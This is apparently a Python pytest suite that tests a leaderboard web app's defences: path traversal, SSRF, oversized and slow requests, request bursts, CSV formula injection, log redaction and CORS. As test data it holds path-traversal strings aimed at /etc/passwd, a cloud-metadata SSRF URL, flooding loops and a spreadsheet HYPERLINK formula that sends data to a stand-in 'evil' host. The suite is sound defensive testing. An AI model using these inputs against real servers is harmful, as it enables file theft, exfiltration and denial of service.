"""Attacks on the page by raw HTTP, without a client that would be polite."""

import csv
import io
import json
import logging
import socket
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from http.client import HTTPConnection
from ipaddress import ip_network
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pyarrow.parquet as pq
import pytest
from fastapi import FastAPI
from huggingface_hub import HfApi
from starlette.responses import PlainTextResponse
from starlette.types import Receive, Scope, Send

from leaderboard import app as api
from leaderboard.app import build_app
from leaderboard.data.export import FORMULA, LINE, to_csv
from leaderboard.web import security as guard
from leaderboard.web.auth import SUBMIT_RATE, Visitors
from leaderboard.web.protocol import BoundedHttpProtocol
from submissions.config.logs import Redacting
from submissions.config.paths import ROOT
from submissions.config.settings import Settings
from submissions.records.index_rows import board_row
from submissions.records.request import EvalRequest
from submissions.store.open import open_store
from submissions.texts.errors import SettingsError
from tests.conftest import settings_in
from tests.support.hub.server import serve
from tests.support.records import result_of

API = "/gradio_api"


@pytest.fixture(scope="module")
def quiet(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[str]:
    """A board that these tests only read from."""
    folder = tmp_path_factory.mktemp("quiet")
    settings = Settings(store=str(folder / "store.git"), work_dir=folder / "work", models_dir=models_dir)
    with serve(build_app(settings)) as address:
        yield address


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[tuple[str, str]]:
    """A board that many submissions are sent to, and its store."""
    settings = settings_in(tmp_path_factory.mktemp("attacked"), models_dir)
    with serve(build_app(settings)) as address:
        yield address, settings.store


@pytest.fixture
def address(settings: Settings) -> Iterator[str]:
    with serve(build_app(settings)) as address:
        yield address


@pytest.fixture(scope="module")
def reader(quiet: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=quiet, timeout=60) as client:
        yield client


@pytest.fixture
def client(address: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=address, timeout=60) as client:
        yield client


def raw(address: str, request: bytes) -> bytes:
    """What is answered to bytes that no client would send."""
    parts = urlsplit(address)
    with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
        connection.sendall(request)
        connection.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: connection.recv(65536), b""))


FILES = ["/etc/passwd", str(ROOT / "app.py"), str(ROOT / ".git/HEAD"), str(ROOT / "assets/samples/ko-vqa/items.jsonl")]


@pytest.mark.parametrize("file", FILES)
@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file={}",
        "/gradio_api/file/{}",
        "/en/gradio_api/file={}",
        "/file={}",
        "/gradio_api/file=..%2f..%2f..{}",
        "/static/..%2f..%2f..%2f..%2f..%2f..%2f..{}",
        "/assets/../../../../../../..{}",
        "/svelte/....//....//..{}",
        "/results/..%2f..%2f..{}.json",
        "/boards/..%2f..%2f..{}.csv",
    ],
)
def test_no_file_of_the_machine_is_served(quiet: str, path: str, file: str) -> None:
    with Path(file).open(encoding="utf-8") as real:
        piece = real.read(60).encode()
    answer = raw(quiet, f"GET {path.format(file)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert answer.split()[1] in (b"404", b"403", b"400") and piece not in answer


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", f"{API}/upload"),
        ("GET", f"{API}/proxy=http://169.254.169.254/latest"),
        ("POST", f"{API}/run/submit"),
        ("POST", f"{API}/api/predict"),
        ("POST", f"{API}/component_server"),
        ("POST", f"{API}/process_recording"),
        ("POST", f"{API}/vibe-edit"),
        ("POST", f"{API}/vibe-code"),
        ("POST", f"{API}/stream/x"),
        ("GET", f"{API}/dev/reload"),
        ("GET", f"{API}/token"),
        ("GET", f"{API}/runs"),
        ("GET", "/pwa_icon/100000"),  # Gradio would make a picture of that size
        ("GET", "/monitoring"),
        ("GET", "/monitoring/summary"),
        ("POST", "/login"),
        ("GET", "/docs"),
        ("GET", "/openapi.json"),
        ("PUT", "/"),
        ("DELETE", "/results/x.json"),
        ("TRACE", "/"),
    ],
)
def test_what_the_board_does_not_need_is_closed(quiet: str, method: str, path: str) -> None:
    for prefix in ("", "/en"):
        assert httpx.request(method, quiet + prefix + path, json={"data": []}).status_code == 404


def test_what_it_needs_is_open(reader: httpx.Client) -> None:
    for path in ("/", "/en/", "/config", "/theme.css", f"{API}/info", f"{API}/app_id", "/robots.txt"):
        answer = reader.get(path)
        assert answer.status_code == 200, path
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "script-src 'self'" in policy
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def join(client: httpx.Client, function: int, data: list[object], session: str = "s") -> httpx.Response:
    body = {"data": data, "fn_index": function, "session_hash": session}
    return client.post(f"{API}/queue/join", json=body)


def outcome(client: httpx.Client, session: str = "s") -> str:
    """The events of a session until all of its calls are done."""
    with client.stream("GET", f"{API}/queue/data", params={"session_hash": session}) as events:
        return "".join(events.iter_text())


def forms(client: httpx.Client) -> tuple[int, int]:
    """The events that check and that submit."""
    config = client.get("/config").json()
    (outcome,) = [c["id"] for c in config["components"] if c["props"].get("elem_id") == "outcome"]
    by_fields = {len(e["inputs"]): e["id"] for e in config["dependencies"] if e["outputs"] == [outcome]}
    return by_fields[5], by_fields[6]


def test_a_long_body_is_refused_however_it_is_announced(reader: httpx.Client, quiet: str) -> None:
    long = b"x" * (guard.MAX_BODY + 1)
    assert reader.post(f"{API}/queue/join", content=long).status_code == 413
    head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
    chunked = b"Transfer-Encoding: chunked\r\n\r\n" + f"{len(long):x}\r\n".encode() + long + b"\r\n0\r\n\r\n"
    assert raw(quiet, head.encode() + chunked).split()[1] in (b"400", b"413")
    for length in ("-5", "many", "9" * 30):
        answer = raw(quiet, f"{head}Content-Length: {length}\r\n\r\n{{}}".encode())
        assert answer.split()[1] in (b"400", b"413")


@pytest.mark.parametrize(
    "data",
    [
        [],
        [None] * 6,
        [5, 5, 5, 5, 5, 5],
        [{"a": 1}, {"b": 2}, [], {}, {}, "yes"],
        ["tiny/image-text", "ko-vqa", "", "auto", "auto", False],
        ["tiny/image-text", ["no-such"], "", "auto", "auto", False],
        ["tiny/image-text", [["ko-vqa"]], "", "auto", "auto", False],
        ["x" * 50_000, ["ko-vqa"], "y" * 1000, "z" * 1000, "auto", False],
        ["tiny/image-text", ["ko-vqa"], "", "auto", "auto", False, {"username": "kim"}, {"preferred_username": "kim"}],
    ],
)
def test_fields_that_no_form_sends_do_no_harm(attacked: tuple[str, str], data: list[object]) -> None:
    address, store = attacked
    with httpx.Client(base_url=address, timeout=60) as client:
        _, submit = forms(client)
        join(client, submit, data)
        said = outcome(client)
    assert "Traceback" not in said and str(ROOT) not in said
    requests = [p for p in open_store(store).snapshot().files if p.startswith("requests/")]
    assert len(requests) <= 1


def test_a_fault_of_ours_tells_a_visitor_nothing(
    client: httpx.Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("the password is swordfish")

    monkeypatch.setattr("submissions.checks.submit.check_model", broken)
    check, _ = forms(client)
    join(client, check, ["tiny/image-text", [], "", "auto", "auto"])
    said = outcome(client)
    assert '"success":false' in said and "swordfish" not in said and "Traceback" not in said


def test_who_asks_too_often_is_told_to_wait(client: httpx.Client, settings: Settings) -> None:
    most = int(SUBMIT_RATE.split("/")[0])
    check, _ = forms(client)
    for n in range(most + 1):
        join(client, check, ["no id", [], "", "auto", "auto"], f"s{n}")
        said = outcome(client, f"s{n}")
    assert "1분 뒤에" in said


@pytest.mark.faults
def test_ten_thousand_submissions_in_a_burst(client: httpx.Client, address: str, settings: Settings) -> None:
    """Nearly all are turned away at the door, none gets in twice, and the page still answers."""
    _, submit = forms(client)

    def some(visitor: int) -> list[int]:
        data = ["tiny/image-text", ["ko-vqa"], "", "auto", "auto", False]
        body = json.dumps({"data": data, "fn_index": submit, "session_hash": f"b{visitor}"})
        parts = urlsplit(address)
        connection = HTTPConnection(str(parts.hostname), parts.port, timeout=60)
        codes = []
        for _ in range(1250):
            connection.request("POST", f"{API}/queue/join", body, {"Content-Type": "application/json"})
            answer = connection.getresponse()
            answer.read()
            codes.append(answer.status)
        connection.close()
        return codes

    with ThreadPoolExecutor(8) as pool:
        codes = [code for part in pool.map(some, range(8)) for code in part]
    assert codes.count(429) >= 9_000 and set(codes) <= {200, 429, 503}
    assert client.get("/").status_code == 200
    for n in range(8):
        outcome(client, f"b{n}")
    requests = [p for p in open_store(settings.store).snapshot().files if p.startswith("requests/")]
    assert len(requests) == 1


def test_the_tables_as_files(reader: httpx.Client) -> None:
    answer = reader.get("/boards/ko-vqa.csv")
    assert answer.headers["Content-Encoding"] == "gzip"
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert (rows[0]["rank"], rows[0]["model"], rows[0]["em"]) == ("1", "Gemini-3-pro", "92.6") and len(rows) == 23
    assert reader.get("/boards/ko-vqa.json").json()[0]["model"] == "Gemini-3-pro"
    table = pq.read_table(io.BytesIO(reader.get("/boards/ko-vqa.parquet").content))
    assert table.num_rows == 23 and table["em"][0].as_py() == 92.6
    etag = answer.headers["ETag"]
    assert reader.get("/boards/ko-vqa.csv", headers={"If-None-Match": etag}).status_code == 304
    assert reader.get("/boards/none.csv").status_code == 404 and reader.get("/boards/ko-vqa.exe").status_code == 404


@pytest.mark.parametrize(
    "start", [*FORMULA, *LINE, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="]
)
def test_no_text_of_a_file_begins_a_formula(start: str, make_request: Callable[..., EvalRequest]) -> None:
    from leaderboard.data.ranking import RankedRow

    evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
    result = result_of(make_request()).evolve(
        config={"model_name": evil, "model_sha": None, "model_dtype": None, "organisation": evil, "license": evil},
        dataset={"id": evil, "revision": None, "split": evil, "n": 1},
        latency={"protocol": "p", "mean_ms": 1.0, "hardware": evil},
        provenance={"kind": "reported", "source": evil},
    )
    content = to_csv([RankedRow(1, board_row(result, "p", "b"))], result.benchmark).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    texts = [value for value in row.values() if "HYPERLINK" in value]
    assert len(texts) == 7 and all(value == "'" + evil for value in texts)


def test_secrets_are_left_out_of_the_log(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HANNUN_HUB_TOKEN", "the-writing-token")
    monkeypatch.setenv("HF_TOKEN", "the-reading-token")
    api = {"model_id": "o/m", "base_url": "http://x/v1", "model": "m", "key": "OTHER_KEY"}
    monkeypatch.setenv("HANNUN_APIS", json.dumps({"gpt": api}))
    monkeypatch.setenv("OTHER_KEY", "the-key-a-setting-names")
    formatter = Redacting("%(name)s %(message)s", Settings())
    try:
        raise RuntimeError(
            "the-key-a-setting-names 401 for url https://kim:the-writing-token@hub with Bearer abc.def-ghi123"
        )
    except RuntimeError:
        record = logging.LogRecord(
            "a", 20, "f", 1, "got %s and hf_abcdefgh12345", ("the-reading-token",), sys.exc_info()
        )
    text = formatter.format(record)
    assert "got [secret] and [secret]" in text and "RuntimeError" in text
    more = formatter.format(
        logging.LogRecord("a", 20, "f", 1, "hf_oauth_abc123 api_org_abcdef Basic a2ltOnB3", (), None)
    )
    assert more == "a [secret] [secret] Basic [secret]"
    for secret in ("the-writing-token", "the-reading-token", "hf_abcdefgh", "abc.def", "setting-names"):
        assert secret not in text


def test_a_log_of_json_is_one_object_a_line_without_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HANNUN_LOG", "json")
    monkeypatch.setenv("HANNUN_HUB_TOKEN", 'a-"quoted"-토큰')
    formatter = Redacting("%(message)s", Settings())
    try:
        raise RuntimeError('with a-"quoted"-토큰 in it')
    except RuntimeError:
        record = logging.LogRecord("a", 30, "f", 1, '한글\nand a-"quoted"-토큰', (), sys.exc_info())
    line = formatter.format(record)
    told = json.loads(line)
    assert "\n" not in line and told.keys() == {"time", "level", "logger", "message", "traceback"}
    assert (told["level"], told["logger"], told["message"]) == ("warning", "a", "한글\nand [secret]")
    assert "RuntimeError" in told["traceback"] and "quoted" not in line


@pytest.mark.parametrize("missing", ["OAUTH_CLIENT_SECRET", "SYSTEM"])
def test_without_a_provider_nobody_is_signed_in_as_the_operator(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, missing: str
) -> None:
    for name in ("OAUTH_CLIENT_ID", "OAUTH_CLIENT_SECRET", "OAUTH_SCOPES", "OPENID_PROVIDER_URL", "SYSTEM", "SPACE_ID"):
        monkeypatch.setenv(name, "x")
    monkeypatch.delenv(missing)
    with pytest.raises(SettingsError, match=missing):
        build_app(settings.model_copy(update={"auth": "oauth"}))


def test_a_visitors_address_is_the_proxys_word_only_for_known_proxies(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    trusted: list[object] = []
    monkeypatch.setattr("uvicorn.run", lambda *_, **how: trusted.append(how["forwarded_allow_ips"]))
    api.serve(FastAPI(), settings)
    monkeypatch.setenv("SPACE_ID", "org/board")
    api.serve(FastAPI(), settings)
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "192.0.2.1")
    api.serve(FastAPI(), settings)
    assert trusted == [None, api.SPACE_PROXIES, "192.0.2.1"]
    assert not any(ip_network(place).is_global for place in api.SPACE_PROXIES.split(",")), "no visitor's own"


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 422),  # a program; what follows is that the form is no form
        ({"Origin": "HOST"}, 422),
        ({"Origin": "HOST", "Sec-Fetch-Site": "same-origin"}, 422),
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://["}, 403),
        ({"Origin": "file://"}, 403),
        ({"Origin": "HOST", "Sec-Fetch-Site": "cross-site"}, 403),
        ({"Sec-Fetch-Site": "same-site"}, 403),
    ],
)
def test_no_page_of_another_site_acts_as_its_visitor(
    reader: httpx.Client, quiet: str, headers: dict[str, str], status: int
) -> None:
    """Gradio answered any origin, with credentials."""
    sent = {name: value.replace("HOST", quiet) for name, value in headers.items()}
    answer = reader.post(f"{API}/queue/join", json=[], headers=sent)
    assert answer.status_code == status
    assert not [name for name in answer.headers if name.startswith("access-control-")]
    asked = {"Access-Control-Request-Method": "POST", **sent}
    preflight = reader.options(f"{API}/queue/join", headers=asked)
    assert "access-control-allow-origin" not in preflight.headers


def test_another_site_cannot_sign_a_visitor_out(reader: httpx.Client) -> None:
    for path in ("/logout", "/en/logout"):
        assert reader.get(path, headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
        assert reader.get(path, headers={"Sec-Fetch-Site": "same-origin"}).status_code != 403


def test_log_messages_are_one_line() -> None:
    formatter = Redacting("%(message)s", Settings())
    record = logging.LogRecord("a", 20, "f", 1, "model %s", ("x\n2026-11-24 worker published\x1b[2J",), None)
    assert formatter.format(record) == "model x\\n2026-11-24 worker published\\x1b[2J"
    try:
        raise ValueError("x\n2026-11-24 worker published \x1b[31m")
    except ValueError:
        record = logging.LogRecord("a", 20, "f", 1, "failed", (), sys.exc_info())
    lines = formatter.format(record).splitlines()
    assert lines[0] == "failed" and all(line.startswith("  ") for line in lines[1:])
    assert "\x1b" not in formatter.format(record)


def test_any_site_may_read_what_is_public(reader: httpx.Client) -> None:
    for path in ("/boards/ko-vqa.json", "/queue.json", "/version", "/feed.xml"):
        answer = reader.get(path, headers={"Origin": "https://blog.example"})
        assert answer.headers["access-control-allow-origin"] == "*", path
        assert "access-control-allow-credentials" not in answer.headers
    page = reader.get("/", headers={"Origin": "https://blog.example"})
    assert "access-control-allow-origin" not in page.headers


def test_addresses_of_one_visitor_are_counted_together() -> None:
    assert guard.network_of("2001:db8:1:2:3:4:5:6") == guard.network_of("2001:db8:1:2::1") == "2001:db8:1:2::/64"
    assert guard.network_of("2001:db8:1:3::1") != guard.network_of("2001:db8:1:2::1")
    assert guard.network_of("192.0.2.7") == guard.network_of("::ffff:192.0.2.7") == "192.0.2.7"
    assert guard.network_of("testclient") == guard.network_of("1.2.3.4:80") == "unknown"


def test_a_burst_of_one_address_leaves_room_in_the_queue(settings: Settings) -> None:
    with serve(build_app(settings)) as address, httpx.Client(base_url=address, timeout=60) as client:
        answers = [client.post(f"{API}/queue/join", json=[]).status_code for _ in range(100)]
        assert answers.count(429) >= 30 and client.get("/").status_code == 200


def test_one_address_holds_only_so_many_requests_open(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "MAX_OPEN", 5)
    with serve(build_app(settings)) as address, ExitStack() as held:
        for _ in range(5):
            client = held.enter_context(httpx.Client(base_url=address, timeout=60))
            held.enter_context(client.stream("GET", f"{API}/heartbeat/x"))
        assert httpx.get(f"{address}/version").status_code == 429


def test_a_body_comes_in_time_or_not_at_all(quiet: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.3)
    parts = urlsplit(quiet)
    head = f"POST {API}/queue/join HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5000\r\n\r\n"
    with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=30) as connection:
        connection.sendall(head.encode() + b"[")
        assert connection.recv(4096).split()[1] in (b"400", b"408")


@pytest.fixture(scope="module")
def bounded() -> Iterator[tuple[str, int]]:
    """The protocol under an application that answers at once."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        await PlainTextResponse("yes")(scope, receive, send)

    with serve(app, http=BoundedHttpProtocol, ws="none", lifespan="off") as address:
        parts = urlsplit(address)
        yield str(parts.hostname), int(parts.port or 0)


def answer_to(place: tuple[str, int], *pieces: bytes) -> bytes:
    """What comes back until the other side closes."""
    with socket.create_connection(place, timeout=30) as connection:
        received = b""
        try:
            for piece in pieces:
                connection.sendall(piece)
            while part := connection.recv(65_536):
                received += part
        except ConnectionError:
            pass
        return received


def test_the_head_of_a_request_has_an_end(bounded: tuple[str, int], monkeypatch: pytest.MonkeyPatch) -> None:
    """40 to 80 MB of it were accepted, and one that never ends was waited for."""
    first = b"GET / HTTP/1.1\r\nHost: x\r\n"
    assert b"200 OK" in answer_to(bounded, first + b"Connection: close\r\nX: " + b"y" * 30_000 + b"\r\n\r\n")
    assert b"200 OK" not in answer_to(bounded, first + b"X: " + b"y" * 10_000_000 + b"\r\n\r\n")
    assert b"200 OK" not in answer_to(bounded, b"GET /" + b"y" * 10_000_000)
    assert b"200 OK" not in answer_to(bounded, first, *[b"X%d: y\r\n" % n for n in range(100_000)])
    monkeypatch.setattr("leaderboard.web.protocol.HEAD_SECONDS", 0.2)
    assert answer_to(bounded, first + b"X: ") == b""
    assert answer_to(bounded) == b""
    # A second request on the same connection, too.
    assert answer_to(bounded, first + b"\r\n", first).count(b"200 OK") == 1


def test_tokens_of_other_sites_are_nobodys(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    def whoami(self: HfApi) -> dict[str, object]:
        asked.append(str(self.token))
        kind = "oauth" if self.token == "hf_jwt" else "access_token"
        return {"type": "user", "name": "kim", "orgs": [], "auth": {"type": kind}}

    monkeypatch.setattr(HfApi, "whoami", whoami)
    visitors = Visitors("oauth")
    assert visitors.bearer("hf_oauth_abc") is None and asked == []
    assert visitors.bearer("hf_jwt") is None
    known = visitors.bearer("hf_own")
    assert known and known.name == "kim"
